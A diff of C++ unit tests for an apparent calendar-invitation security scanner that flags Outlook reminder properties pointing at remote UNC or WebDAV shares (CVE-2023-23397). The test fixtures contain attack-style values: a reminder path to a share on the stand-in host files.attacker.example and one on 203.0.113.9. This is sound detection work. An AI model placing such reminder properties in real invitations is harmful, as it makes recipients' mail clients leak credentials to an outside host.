@@ -318,6 +318,34 @@ TEST(CalendarEngineTest, AReminderSoundOnAFileShareIsAUncLink) {
   const Finding* f = first(r, "LINK_UNC_PATH");
   ASSERT_NE(f, nullptr);
   EXPECT_NE(f->evidence.at(0).value.find("203.0.113.9"), std::string::npos);
+  const Finding* reminder = first(r, "OUTLOOK_REMINDER_UNC");
+  ASSERT_NE(reminder, nullptr);
+  EXPECT_EQ(reminder->evidence.at(0).field, "calendar:ATTACH");
+  EXPECT_NE(reminder->evidence.at(0).value.find("file share on 203.0.113.9"), std::string::npos);
+  EXPECT_NE(reminder->evidence.back().value.find("CVE-2023-23397"), std::string::npos);
+}
+
+TEST(CalendarTest, AnOutlookReminderPropertyOnAWebDavShareIsReported) {
+  // Escaped backslashes of a TEXT value, and the WebDAV form Windows' redirector accepts.
+  const std::string calendar = calendar_text(
+      "REQUEST", "boss@outside.example",
+      "X-MS-OLK-REMINDERFILEPARAMETER:\\\\\\\\files.attacker.example@SSL\\\\DavWWWRoot\\\\ring.wav\r\n");
+  const std::vector<Finding> findings = harness().analyze(with_ics("boss@outside.example", calendar));
+  const Finding* f = AnalyzerHarness::find(findings, "OUTLOOK_REMINDER_UNC");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->evidence.at(0).field, "calendar:X-MS-OLK-REMINDERFILEPARAMETER");
+  EXPECT_NE(f->evidence.at(0).value.find("WebDAV share on files.attacker.example"), std::string::npos)
+      << f->evidence.at(0).value;
+}
+
+TEST(CalendarTest, ALocalReminderSoundAndAnAlarmOutsideValarmAreSilent) {
+  const std::string calendar = calendar_text(
+      "REQUEST", "boss@outside.example",
+      "ATTACH:\\\\203.0.113.9\\share\\agenda.pdf\r\n"  // an event's attachment, not an alarm's
+      "BEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT5M\r\nATTACH:file:///C:/Windows/Media/ring.wav\r\nEND:VALARM\r\n"
+      "X-MS-OLK-CONFTYPE:0\r\n");
+  EXPECT_EQ(AnalyzerHarness::find(harness().analyze(with_ics("boss@outside.example", calendar)), "OUTLOOK_REMINDER_UNC"),
+            nullptr);
 }
 
 TEST(CalendarEngineTest, AnOutsideInvitationSpoofingTheOrganisationIsWarnedAbout) {
